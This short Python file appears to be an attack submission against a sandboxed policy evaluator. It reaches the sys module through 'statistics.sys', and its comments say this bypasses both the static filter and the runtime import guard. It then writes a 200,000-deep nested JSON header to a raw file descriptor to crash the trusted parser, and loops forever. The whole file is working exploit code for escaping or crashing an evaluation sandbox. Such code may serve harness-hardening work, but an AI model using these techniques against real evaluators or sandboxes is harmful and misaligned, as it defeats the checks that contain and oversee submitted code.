"""ATTACK: send the evaluator a frame whose JSON header is 200 000 nested arrays ("[[[[...]]]]",
400 kB, well under the 8 MB header bound). Parsing it recursively in the trusted process
raises RecursionError there instead of a protocol error about the worker."""

import statistics

# statistics.sys is a public attribute, so the static filter sees no forbidden import or name
# and the runtime import guard is never asked: both in-process filters are bypassed.
_sys = statistics.sys
os = _sys.modules["os"]
struct = _sys.modules["struct"]

_h = b"[" * 200_000 + b"]" * 200_000


def policy(obs):
    os.write(4, struct.pack("!II", len(_h), 0) + _h)
    while True:
        pass
